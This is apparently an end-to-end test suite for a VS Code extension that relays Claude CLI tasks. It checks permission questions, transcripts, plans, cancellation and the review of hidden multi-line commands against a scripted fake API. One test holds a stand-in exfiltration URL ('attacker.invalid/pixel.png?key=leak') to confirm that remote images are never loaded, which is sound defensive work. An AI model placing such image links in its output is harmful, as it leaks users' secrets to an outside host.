        const row = qp.rows.find((r) => r.label.includes(EDIT_PROMPT.slice(0, 30)));
        if (row) await clickOnce('task-row', row, { where: 'task list', text: row.label });
      } else {
        seen.taskActions = qp.rows.map((r) => r.label);
        const row = qp.rows.find((r) => /Open Transcript/.test(r.label));
        if (row) await clickOnce('transcript-row', row, { where: 'task actions', text: row.label });
      }
    }
    if (steps.some((s) => s.step === 'color-start') && !steps.some((s) => s.step === 'color-end')) await answerColor(ui);
    if (steps.some((s) => s.step === 'plan-start') && !fs.existsSync(path.join(sandbox.e2eDir, 'plan-read'))) await drivePlan(ui, page);
    // Cancel the follow-up once it is running (its progress says Thinking).
    if (steps.some((s) => s.step === 'cancel-start')) {
      const t = ui.toasts.find((x) => x.text.includes(CANCEL_PROMPT.slice(0, 20)) && /Thinking/.test(x.text));
      const cancel = t && t.buttons.find((b) => b.label === 'Cancel');
      if (cancel) await clickOnce('cancel', cancel, { where: 'progress', text: t.text });
    }
    await sleep(150);
  }
  throw new Error(`no result from the harness after ${SCENARIO_TIMEOUT_MS} ms; steps: ${JSON.stringify(readSteps())}`);
}

before(async () => {
  for (const [what, p] of [
    ['claude-bridge (make build)', BRIDGE],
    ['fakeapi (make build)', FAKEAPI],
    ['claude CLI (make tools)', CLAUDE],
    ['code-server', CODE_SERVER],
    ['the .vsix', VSIX],
  ]) {
    assert.ok(fs.existsSync(p), `${what} not found at ${p}`);
  }
  sandbox = makeSandbox(WORK, KEY);
  const file = path.join(sandbox.workspace, 'main.go');
  fs.writeFileSync(file, MAIN_GO);
  const permFile = path.join(sandbox.workspace, 'perm.txt');
  fs.writeFileSync(
    path.join(sandbox.e2eDir, 'scenario.json'),
    JSON.stringify({
      file, permFile, editPrompt: EDIT_PROMPT, cancelPrompt: CANCEL_PROMPT, askPrompt: ASK_PROMPT,
      colorPrompt: COLOR_PROMPT, planPrompt: PLAN_PROMPT, tidyPrompt: TIDY_PROMPT, stalePrompt: STALE_PROMPT,
    }),
  );

  // The stand-in's script: one turn per API request of a conversation. The
  // follow-up continues the same conversation, so it gets turn 4. The first
  // answer takes 1.5 s: the Ask About Selection task (a new conversation,
  // turn 0 again) is cancelled before it.
  const script = [
    { blocks: [{ type: 'tool_use', name: 'Read', input: { file_path: '{{workspace}}/main.go' } }], delayMs: 1500 },
    {
      blocks: [
        { type: 'text', text: 'I will change the greeting.' },
        {
          type: 'tool_use',
          name: 'Edit',
          input: { file_path: '{{workspace}}/main.go', old_string: 'println("hello")', new_string: 'println("hello, e2e")' },
        },
      ],
    },
    {
      blocks: [
        {
          type: 'tool_use',
          name: 'Bash',
          input: { command: 'echo e2e-permission-granted > perm.txt', description: 'Record the permission' },
        },
      ],
    },
    // The final answer: 16 KB of Markdown in 8-byte deltas 1 ms apart
    // (claude relays them as over a thousand text events), to see the
    // transcript keep up with a long stream.
    { blocks: [{ type: 'text', text: LONG_ANSWER }], chunkSize: 8, chunkDelayMs: 1 },
    { blocks: [{ type: 'text', text: 'This answer comes too late.' }], delayMs: 120000 },
  ];
  // Conversations of their own (by prompt): claude's questions, a plan, and
  // issue 16's tasks.
  PLAN_GO_ON = path.join(sandbox.e2eDir, 'plan-go-on');
  const conversations = [
    {
      match: COLOR_PROMPT,
      turns: [
        {
          blocks: [
            {
              type: 'tool_use',
              name: 'AskUserQuestion',
              input: {
                questions: [
                  { question: COLOR_Q, header: 'Color', multiSelect: false, options: [{ label: 'Blue', description: 'calm' }, { label: 'Red', description: 'loud' }] },
                  {
                    question: FEATURES_Q,
                    header: 'Features',
                    multiSelect: true,
                    options: [{ label: 'Dark mode', description: 'a dark theme' }, { label: 'Search', description: 'find things' }, { label: 'Export', description: 'save as CSV' }],
                  },
                ],
              },
            },
          ],
        },
        { blocks: [{ type: 'text', text: 'Noted your answers.' }] },
      ],
    },
    {
      match: PLAN_PROMPT,
      turns: [
        { blocks: [{ type: 'tool_use', name: 'Write', input: { file_path: '{{planFile}}', content: '# Plan\n\n1. Greet the **e2e** test\n2. Print the date\n' } }] },
        { blocks: [{ type: 'tool_use', name: 'ExitPlanMode', input: {} }] },
        {
          blocks: [
            {
              type: 'tool_use',
              name: 'TodoWrite',
              input: {
                todos: [
                  { content: 'Greet the e2e test', status: 'completed', activeForm: 'Greeting the e2e test' },
                  { content: 'Print the date', status: 'in_progress', activeForm: 'Printing the date' },
                ],
              },
            },
          ],
        },
        // Held until the driver has sent a message and seen it shown as
        // sent: claude, waiting for its last answer, reads it after it.
        { blocks: [{ type: 'text', text: 'Carried out the plan.' }], holdUntilFile: PLAN_GO_ON },
      ],
      default: { blocks: [{ type: 'text', text: 'Printed the date too.' }] },
    },
    {
      match: 'Tidy up the workspace',
      turns: [
        { blocks: [{ type: 'tool_use', name: 'Bash', input: { command: TIDY_COMMAND, description: 'Tidy the workspace' } }] },
        { blocks: [{ type: 'text', text: 'Tidied.' }] },
      ],
    },
    {
      match: STALE_PROMPT,
      turns: [{ blocks: [{ type: 'tool_use', name: 'Bash', input: { command: 'echo never > never.txt', description: 'Never answered' } }] }, { blocks: [{ type: 'text', text: 'x' }] }],
    },
  ];
  const apiUrl = await startFakeApi(procs, {
    script: { turns: script, conversations },
    workspace: sandbox.workspace,
    key: KEY,
    work: WORK,
    requestsLog: path.join(WORK, 'requests.jsonl'),
  });

  // The bridge from this checkout, and permission mode "default" so that
  // the Edit and the Bash command are both asked about.
  cdp = await launchVsCode(procs, sandbox, {
    work: WORK,
    apiUrl,
    settings: { 'claudeBridge.permissionMode': 'default' },
    // claude 2.1.332 gives the model TodoWrite only with these (measured; see the README).
    env: { CLAUDE_CODE_ENABLE_TODO_TOOLS: '1', CLAUDE_CODE_ENABLE_TASKS: '0' },
  });
  clicker = new Clicker(cdp, WORK);
  seen.clicks = clicker.clicks;
  clicker.screenshots = seen.screenshots;
  await drive();
  seen.screenshots.push(await cdp.screenshot(path.join(WORK, 'end.png')));
});

after(async () => {
  if (cdp) cdp.close();
  await procs.stopAll();
  // Leave WORK in place for inspection (git-ignored, wiped by the next run).
  fs.writeFileSync(
    path.join(WORK, 'observed.json'),
    JSON.stringify(
      {
        result, steps, clicks: seen.clicks, toasts: [...seen.toastTexts], status: [...seen.status], dialogs: [...new Set(seen.dialogs)],
        edit: seen.edit, bash: seen.bash, transcript: seen.transcript, claudeMissing: seen.claudeMissing, color: seen.color, plan: seen.plan,
        edit: seen.edit, bash: seen.bash, transcript: seen.transcript, claudeMissing: seen.claudeMissing,
        tidy: seen.tidy, stale: seen.stale, reopened: seen.reopened, readme: seen.readme, claudeSettings: seen.claudeSettings,
        webviewErrors: [...seen.webviewErrors], screenshots: seen.screenshots,
      },
      null,
      2,
    ),
  );
});

function why() {
  return `\nresult: ${JSON.stringify(result, null, 2)?.slice(0, 4000)}\nclicks: ${JSON.stringify(seen.clicks)}\nartifacts: ${WORK}`;
}

test('the harness ran the scenario inside VS Code', () => {
  assert.ok(result, 'result.json was written');
  assert.equal(result.ok, true, result.error + why());
  assert.equal(result.bridgePath, BRIDGE);
});

test('the task\'s edit reached the open document in the editor', () => {
  assert.equal(result.run.status, 'completed', why());
  assert.equal(result.before, MAIN_GO);
  assert.match(result.disk, /println\("hello, e2e"\)/);
  assert.equal(result.after, result.disk, 'the editor shows what is on disk' + why());
  assert.ok(result.bufferChanges.length >= 1, 'the open document changed (not reloaded from disk later)' + why());
  assert.deepEqual(result.run.editedFiles, [`file://${path.join(sandbox.workspace, 'main.go')}`]);
  // The carried edit leaves the buffer modified (equal to the disk); saving
  // it works without a "file is newer" conflict and leaves it clean.
  assert.equal(result.saved, true, 'the document saved' + why());
  assert.equal(result.afterSaveDirty, false);
  assert.equal(result.diskAfterSave, result.disk);
  assert.ok(
    ![...seen.toastTexts].some((t) => /Failed to save|newer/i.test(t)),
    `no save conflict: ${JSON.stringify([...seen.toastTexts])}`,
  );
  assert.deepEqual(result.task.seqs, result.task.seqs.map((_, i) => i + 1), 'events arrived gapless');
  assert.equal(result.task.kinds.at(-1), 'result');
});

test('progress was shown in a notification and the status bar counted the task', () => {
  const texts = seen.progressToasts.map((p) => p.text);
  assert.ok(
    texts.some((t) => t.includes('Claude: ' + EDIT_PROMPT.slice(0, 30))),
    `a progress notification titled with the prompt: ${JSON.stringify([...new Set(texts)])}`,
  );
  assert.ok(
    texts.some((t) => /Edit main\.go|Read main\.go|Thinking|Waiting for permission/.test(t)),
    `the progress notification showed the task's steps: ${JSON.stringify([...new Set(texts)])}`,
  );
  assert.ok(
    [...seen.status].some((s) => /Claude: 1/.test(s)),
    `the status bar counted one running task: ${JSON.stringify([...seen.status])}`,
  );
});

test('an Edit permission question is still answerable after its notification hid: from the status bar item', () => {
  const e = seen.edit;
  assert.ok(e.toastAt, 'the Edit question showed as a notification' + why());
  assert.equal(e.toastText, 'Claude wants to run Edit: main.go (task “Make main.go greet the e2e test and rec…”)', 'backticks gone, the task named');
  assert.deepEqual(e.toastButtons.filter((b) => b !== ''), ['Allow', 'Allow for this task', 'Deny']);
  // Hidden the way VS Code hides a notification after some seconds (here
  // with Escape, notifications.hideToasts, so the test need not wait).
  assert.ok(e.hiddenAt >= e.hideSentAt && e.hiddenAt > 0, 'the notification hid' + why());
  assert.match(e.statusItem, /Claude asks: Edit: main\.go/, 'the status bar item says a question waits');
  assert.match(e.pickTitle, /^Claude wants to run Edit: main\.go$/);
  assert.deepEqual(e.pickRows, ['Allow', 'Allow for this task', 'Deny', 'Show in Transcriptthe call in full, with its buttons']);
  const pickClick = seen.clicks.find((c) => c.where === 'question picker');
  assert.ok(pickClick && pickClick.at > e.hiddenAt, 'answered from the picker after the notification hid');
  assert.deepEqual(result.questionAnswers.find((a) => a.name === 'Edit'), { name: 'Edit', decision: 'allow', automatic: false });
  assert.equal(result.run.status, 'completed');
  assert.deepEqual(seen.dialogs.filter((d) => !/echo tidying up/.test(d)), [], 'no modal but the review of a cut command: every tool asks the same way');
  const q = result.questions.find((x) => x.toolName === 'Edit');
  assert.ok(q && q.taskId === result.run.taskId && q.toolUseId, `the question names its task and call: ${JSON.stringify(q)}`);
});

test('the Bash question was answered with the button in the transcript', () => {
  const b = seen.bash;
  assert.deepEqual(b.buttons, ['Allow', 'Allow for this task', 'Deny'], why());
  assert.match(b.question, /^Claude wants to run Bash: echo e2e-permission-granted > perm\.txt/, 'the command as code, no backticks');
  assert.ok(seen.clicks.some((c) => c.where === 'transcript'), 'the Allow button in the transcript was clicked');
  assert.equal((result.permFile || '').trim(), 'e2e-permission-granted', 'the allowed command ran');
  assert.deepEqual(result.questionAnswers.find((a) => a.name === 'Bash'), { name: 'Bash', decision: 'allow', automatic: false });
  assert.ok(
    ![...seen.toastTexts].some((t) => /Claude wants to run Bash: “echo e2e-permission-granted/.test(t)),
    'no notification: the transcript on screen shows the question (a notification could not be closed once answered there)',
  );
});

test('the transcript is a page a person reads: rendered text, tool blocks, the result; titled with the prompt', () => {
  const t = seen.transcript;
  assert.ok(t, `the transcript page was read (webview errors: ${JSON.stringify([...seen.webviewErrors])})` + why());
  assert.equal(t.title, EDIT_PROMPT);
  assert.ok(t.tabs.some((x) => x.startsWith('Claude: Make main.go greet the e2e')), JSON.stringify(t.tabs));
  const text = t.texts.join('\n');
  assert.match(text, /<p>I will change the greeting\.<\/p>/);
  assert.match(text, /<h2>Done<\/h2>/, 'Markdown rendered');
  assert.match(text, /I <strong>edited<\/strong> <code>main\.go<\/code>/);
  const summaries = t.tools.map((x) => x.summary);
  assert.ok(summaries.some((x) => /Read main\.go/.test(x)), JSON.stringify(summaries));
  const edit = t.tools.find((x) => /Edit main\.go/.test(x.summary));
  assert.ok(edit, JSON.stringify(summaries));
  assert.match(edit.html, /<div class="del"><span class="sign">-<\/span>println\("hello"\)<\/div><div class="add"><span class="sign">\+<\/span>println\("hello, e2e"\)<\/div>/, 'the change as a diff');
  assert.match(edit.cls, /\bok\b/);
  const bash = t.tools.find((x) => /Bash/.test(x.summary));
  assert.match(bash.html, /<pre class="command"><span class="prompt">\$<\/span> echo e2e-permission-granted &gt; perm\.txt<\/pre>/, 'the command shown');
  assert.match(bash.html, /allowed by you/);
  assert.match(t.end, /^✓ Completed in [\d.]+ s · \d+ turns · \$[\d.]+$/);
  const done = [...seen.toastTexts].find((x) => /^Claude finished/.test(x));
  assert.match(done, /^Claude finished “Make main\.go greet the e2e test and rec…”: Done I edited main\.go and wrote perm\.txt: the greeting/, 'the end notification in plain text');
  console.log(
    `# transcript: ${result.textEvents} text events in ${(result.runMs / 1000).toFixed(1)} s of task; ${result.transcriptMessages} messages to the page; ` +
      `the page showed the end ${seen.transcriptAfterRunEndMs} ms after the task's reply (read every ~200 ms)`,
  );
  // About 2000 deltas, which the bridge paces to one text event per 16 ms
  // window (issue 15: 143 events for a 2 s stream); the page is sent
  // batches of them (the webview's own many-deltas cost is measured in the
  // protocol suite's transcript test).
  assert.ok(result.textEvents >= 50, `a long stream: ${result.textEvents} text events`);
  assert.ok(result.transcriptMessages < result.textEvents / 2, `batched: ${result.transcriptMessages} messages for ${result.textEvents} text events`);
});

test('claude not found: the warning leads with the fix and offers its buttons; authStatus says so', () => {
  const m = seen.claudeMissing;
  assert.ok(m, `a notification: ${JSON.stringify([...seen.toastTexts])}`);
  assert.match(m.text, /^Claude Bridge cannot find the claude CLI\. Install it with “npm install -g @anthropic-ai\/claude-code”/);
  assert.deepEqual(m.buttons.filter((b) => b !== ''), ['Copy Install Command', 'Set claudePath…', 'Open README']);
  assert.ok(result.claudeAuth && result.claudeAuth.claude, JSON.stringify(result.claudeAuth));
  assert.match(result.claudeAuth.claude.problem, /^claude CLI not found: install it with `npm install -g @anthropic-ai\/claude-code`.*claudePath \/nonexistent\/bin\/claude/);
  assert.ok(![...seen.toastTexts].some((t) => /^claude-bridge: claude CLI not found/.test(t)), 'the raw bridge warning is not shown as well');
});

test('Cancel on the progress notification cancelled the task', () => {
  const click = seen.clicks.find((c) => c.where === 'progress');
  assert.ok(click, 'the follow-up\'s progress notification had a Cancel button and it was clicked' + why());
  assert.equal(result.cancel.status, 'cancelled', why());
  assert.ok(result.cancelMs < 100000, `the follow-up ended by the cancel, not by its 120 s answer (${result.cancelMs} ms)`);
  assert.equal(result.cancel.sessionId, result.run.sessionId, 'the follow-up continued the conversation');
  assert.equal(result.cancelTask.kinds.at(-1), 'result');
  assert.equal(result.running, 0, 'no task left running');
  const t = result.tasks.find((x) => x.taskId === result.cancel.taskId);
  assert.equal(t && t.status, 'cancelled');
});

test('Ask About Selection sends the selection as an @path#L mention; Claude: Cancel Task cancels by id', () => {
  assert.match(result.askQueuedPrompt, /^What does this function do\?/);
  assert.match(result.askQueuedPrompt, /@main\.go#L3-5/, 'lines 3 to 5 (the selection ends at the start of line 6)');
  assert.equal(result.askCancelReply, true);
  assert.equal(result.ask.status, 'cancelled', why());
});

test('a missing bridge gives a notification with the install command; commands fail instead of hanging', () => {
  assert.equal(result.missing.found, false);
  assert.equal(result.missing.settingInvalid, false);
  const toast = [...seen.toastTexts].find((t) => /claude-bridge was not found/.test(t));
  assert.ok(toast, `a notification: ${JSON.stringify([...seen.toastTexts])}`);
  assert.ok(toast.includes('go install github.com/claude-bridge/claude-bridge/cmd/claude-bridge@latest'), toast);
  assert.ok(toast.includes('make build'), toast);
  assert.ok(seen.missingButtons.has('Copy Install Command'), JSON.stringify([...seen.missingButtons]));
  assert.match(result.missingRun.rejected || '', /claude-bridge was not found/);
  assert.ok([...seen.status].some((s) => /warning/.test(s)), `the status bar warns: ${JSON.stringify([...seen.status])}`);
});

test('the status bar item opens the task list; a task opens its transcript', () => {
  assert.ok(result.transcriptFromTaskList, why());
  assert.ok(seen.clicks.some((c) => c.where === 'status bar'), 'the status bar item was clicked');
  const rows = seen.taskListRows.join(' | ');
  assert.ok(rows.includes(EDIT_PROMPT.slice(0, 30)), rows);
  assert.ok(rows.includes(CANCEL_PROMPT.slice(0, 20)), rows);
  assert.ok(/cancelled/.test(rows), `statuses are listed: ${rows}`);
  assert.ok(seen.taskActions.some((a) => /Open Transcript/.test(a)), JSON.stringify(seen.taskActions));
  assert.match(result.transcriptFromTaskList, /^Claude: Make main\.go greet/);
  assert.ok(seen.taskActions.some((a) => /Follow Up/.test(a)), JSON.stringify(seen.taskActions));
});

/** The stand-in's requests (--requests-log), each with its first user message's text and its messages. */
function requests() {
  const file = path.join(WORK, 'requests.jsonl');
  return fs
    .readFileSync(file, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l))
    .filter((r) => r.body && Array.isArray(r.body.messages))
    .map((r) => ({ turn: r.turn, messages: r.body.messages, json: JSON.stringify(r.body.messages), toolResults: toolResults(r.body.messages) }));
}

/** The text of the tool results in a request's messages. */
function toolResults(messages) {
  const out = [];
  for (const m of messages) {
    if (!Array.isArray(m.content)) continue;
    for (const b of m.content) {
      if (b.type !== 'tool_result') continue;
      out.push(typeof b.content === 'string' ? b.content : (b.content || []).map((c) => c.text || '').join(''));
    }
  }
  return out.join('\n');
}

test('claude\'s questions: Answer… on the notification, a QuickPick per question (one option; two of a multi-select); the answers reached the API', () => {
  const c = seen.color;
  assert.ok(c.toast, `the notification: ${JSON.stringify([...seen.toastTexts])}` + why());
  assert.match(c.toast.text, /^Claude asks \(Color\): Which color should the button be\? \(and 1 more\) \(task “Pick a color for the button”\)$/);
  assert.deepEqual(c.toast.buttons, ['Answer…']);
  assert.deepEqual(c.picks.map((p) => p.title), [`Claude asks (Color): ${COLOR_Q} (1/2)`, `Claude asks (Features): ${FEATURES_Q} (2/2)`]);
  assert.ok(c.picks[0].rows.some((r) => r.startsWith('Red') && r.includes('loud')), JSON.stringify(c.picks[0].rows));
  assert.ok(c.picks[0].rows.some((r) => /Other…/.test(r)), 'an answer of your own is offered');
  assert.equal(result.color.status, 'completed', why());
  const q = result.colorEvents[0];
  assert.deepEqual(q && q.answers, { [COLOR_Q]: 'Red', [FEATURES_Q]: 'Dark mode, Export' }, JSON.stringify(result.colorEvents));
  // What claude sent the API after the answers: the tool result with them.
  const after = requests().find((r) => r.turn === 1 && r.json.includes(COLOR_PROMPT));
  assert.ok(after, 'claude went on after the answers');
  assert.ok(
    after.toolResults.includes(`Your questions have been answered: "${COLOR_Q}"="Red", "${FEATURES_Q}"="Dark mode, Export".`),
    `the answers in the tool result claude sent: ${after.toolResults}`,
  );
});

test('a plan: shown in the transcript and as a Markdown preview, approved in the transcript; to-dos and the new mode show; its notification, left behind, says it waits no more', () => {
  const p = seen.plan;
  assert.ok(p.approveClickedAt, 'Approve was clicked in the plan\'s transcript' + why());
  assert.equal(p.statusWhileWaiting, 'Waiting for your answer');
  assert.deepEqual(p.buttons, ['Approve', 'Approve, ask before edits', 'Keep planning']);
  assert.match(p.planHtml, /<h1>Plan<\/h1>/, 'the plan rendered as Markdown');
  assert.match(p.planHtml, /Greet the <strong>e2e<\/strong> test/);
  assert.match(result.planQuestion.uri || '', /^file:\/\/.*\/plans\/.*\.md$/, 'the bridge\'s copy of the plan');
  assert.ok(result.planTabs.some((t) => /^Preview .*\.md$/.test(t)), `the plan opened as a Markdown preview: ${JSON.stringify(result.planTabs)}`);
  assert.match(p.previewText || '', /^Plan\s+Greet the e2e test\s+Print the date/, 'the preview showed the plan');
  assert.equal(result.plan.status, 'completed', why());
  const planEv = result.planEvents.find((e) => e.kind === 'plan');
  assert.deepEqual({ decision: planEv.decision, permissionMode: planEv.permissionMode }, { decision: 'approve', permissionMode: 'acceptEdits' }, 'Approve: go on, accepting edits');
  const kinds = result.planEvents.map((e) => e.kind);
  assert.ok(result.planEvents.some((e) => e.kind === 'mode' && e.permissionMode === 'acceptEdits'), JSON.stringify(kinds));
  assert.ok(result.planEvents.some((e) => e.kind === 'todos' && e.todos.length === 2), JSON.stringify(kinds));
  assert.match(p.read.todos, /^To-dos 1\/2/, 'the to-do list under the header');
  assert.ok(p.read.modes.some((m) => /Now in acceptEdits mode/.test(m)), JSON.stringify(p.read.modes));
  assert.equal(p.read.overflowX, 0, 'the transcript does not scroll sideways (a long path wraps)');
  assert.deepEqual(p.read.blocks.filter((b) => b.key.startsWith('other:')), [], 'no raw claude messages in the transcript');
  // The notification shown while the transcript was not on screen: VS Code
  // cannot close it when the plan is answered elsewhere; a click says so.
  assert.deepEqual(p.toast && p.toast.buttons, ['Approve', 'Approve, Ask Before Edits', 'Keep Planning…'], JSON.stringify([...seen.toastTexts]));
  assert.ok(p.staleClickedAt > p.approveClickedAt, 'its Approve clicked (in the notification center) after the plan was approved' + why());
  assert.match(p.staleNotice || '', /Claude: answered already, or its task ended; nothing changed/, 'the status bar says so');
  assert.equal(result.planDecisions, 1, 'the plan was decided once');
});

test('a message sent from the transcript\'s box into the running task: shown as sent at once, then where claude read it; its next API request carries it', () => {
  const p = seen.plan;
  assert.ok(p.sentAt, 'Send was clicked' + why());
  assert.match(p.composerPlaceholder, /^Send to Claude: it reads this at its next step/);
  assert.match(p.todosWhenSending, /^To-dos/, 'sent while the task ran, after its to-do list came');
  const ps = p.pendingSeen;
  assert.ok(ps, 'the message showed as sent');
  assert.deepEqual(ps.pending, [`Sent ${SENT_MESSAGE} · Claude reads it at its next step`]);
  assert.equal(ps.value, '', 'the box emptied');
  assert.deepEqual(ps.userMessages, [], 'claude had not read it yet (its answer was held)');
  assert.match(ps.status, /^Running/);
  const um = result.planEvents.find((e) => e.kind === 'userMessage');
  assert.equal(um && um.text, SENT_MESSAGE, 'claude took the message (its replay)');
  // Once read: a block of its own, after the answer claude was waiting for
  // and before the one it gave to the message; the end last.
  const texts = p.read.blocks.map((b) => b.text);
  const at = (re) => texts.findIndex((t) => re.test(t));
  const order = [at(/^Carried out the plan\.$/), at(new RegExp(`^You${SENT_MESSAGE}$`)), at(/^Printed the date too\.$/), at(/^✓ Completed/)];
  assert.ok(order.every((i, n) => i >= 0 && (n === 0 || i > order[n - 1])), `blocks in order (${order}): ${JSON.stringify(texts)}`);
  assert.equal(p.read.end.includes('Printed the date too.'), false, 'the end does not repeat the last answer');
  assert.deepEqual(p.read.pending, [], 'no longer shown as waiting');
  // The API: no request before the message carried it; the one after
  // claude's held answer did (a turn of its own for it).
  const reqs = requests().filter((r) => r.json.includes(PLAN_PROMPT));
  const first = reqs.findIndex((r) => r.json.includes(SENT_MESSAGE));
  assert.ok(first > 0, `a request carried the message: ${reqs.length} requests`);
  assert.ok(reqs[first].json.includes('Carried out the plan.'), 'claude read it after its held answer');
});

test('a command whose first line hides the rest: no Allow until it is seen whole (a modal), allowed there', () => {
  const t = seen.tidy;
  assert.match(t.toastText, /^Claude wants to run Bash: “echo tidying up” \(and 2 more lines\) \(task “Tidy up the workspace/, 'the one-line message says there is more');
  assert.deepEqual(t.toastButtons, ['Review…', 'Deny'], 'no Allow on the notification');
  if (t.fromCenter) assert.deepEqual(t.fromCenter.buttons, ['Review…', 'Deny'], 'no Allow on the notification in the center either');
  assert.ok(t.review, 'Review… opened the whole command' + why());
  for (const line of TIDY_COMMAND.split('\n')) assert.ok(t.review.text.includes(line), `the modal shows "${line}": ${t.review.text}`);
  assert.deepEqual(t.review.buttons.filter((b) => ['Allow', 'Allow for this task', 'Deny'].includes(b)).sort(), ['Allow', 'Allow for this task', 'Deny']);
  assert.equal(result.tidy.status, 'completed', why());
  assert.equal(result.tidyFile, true, 'allowed in the modal: the command ran');
  assert.equal(result.tidyTitle, null, 'no transcript tab for it (the question came as a notification)');
});

test('a question whose task was cancelled leaves the status bar and the store; its old notification says it is over', () => {
  const st = seen.stale;
  assert.match(st.statusItem, /Claude asks: Bash: “echo never/, 'the question waited in the status bar' + why());
  assert.equal(result.staleCancel, true);
  assert.equal(result.stale.status, 'cancelled');
  assert.deepEqual(result.stalePending, [], 'nothing waits once the task ended');
  assert.ok(st.goneAfterMs >= 0 && st.goneAfterMs < 5000, `the status bar item went (${st.goneAfterMs} ms after the task's end)`);
  assert.ok(st.toastClicked, 'the old notification\'s Allow was clicked');
  assert.match(st.lateClick, /Claude: answered already, or its task ended/);
});

test('a transcript reopened after its task ended: the answer once, the end last (then the changes to review); the header sticks; remote images stay links', () => {
  const r = seen.reopened;
  assert.ok(r, 'the transcript opened from the task list was read' + why());
  // The closing blocks: the end, then the task's changes kept for review (review afterTurn, the default).
  const keys = r.blocks.map((b) => b.key);
  const closing = keys.includes('changes') ? ['end', 'changes'] : ['end'];
  assert.deepEqual(keys.slice(-closing.length), closing, `the end is the last block but the changes to review: ${JSON.stringify(keys)}`);
  assert.equal(r.blocks[0].key, 'head');
  assert.equal(r.finalAnswers, 1, 'the final answer once');
  assert.ok(r.scrollY > 500, `scrolled down (${r.scrollY})`);
  assert.ok(r.headTop !== null && r.headTop <= 1, `the header stuck to the top (${r.headTop})`);
  const t = seen.transcript;
  assert.deepEqual(t.images, [], 'no image element');
  assert.deepEqual(t.imageLinks, ['https://attacker.invalid/pixel.png?key=leak'], 'the image is a link');
  const imgSrc = (/img-src ([^;]*)/.exec(t.csp) || [])[1] || '';
  assert.doesNotMatch(imgSrc, /(^|\s)(https?:|\*)(\s|$)/, `no remote images in the CSP (only VS Code's own resources): ${t.csp}`);
});

test('claude not found: Open README opens the packed readme at its section; Set claudePath… opens where the machine setting lives', () => {
  assert.ok(seen.readme, 'the README preview opened' + why());
  assert.equal(seen.readme.notFound, false, 'no "cannot be found"');
  assert.equal(seen.readme.section, true, 'the section is in the preview');
  // A tab's aria-label ends in ", Editor Group N" once there are two groups (the plan's preview opened one).
  assert.ok(seen.readme.tabs.some((x) => x.replace(/, Editor Group \d+$/, '') === 'Preview readme.md'), JSON.stringify(seen.readme.tabs));
  assert.ok(seen.claudeSettings, 'the settings opened on claudePath' + why());
  assert.match(seen.claudeSettings.text, /Claude Path/i);
  if (result.remoteName) assert.match(seen.claudeSettings.tab, /Remote/, `a remote window (${result.remoteName}): the Remote tab`);
});
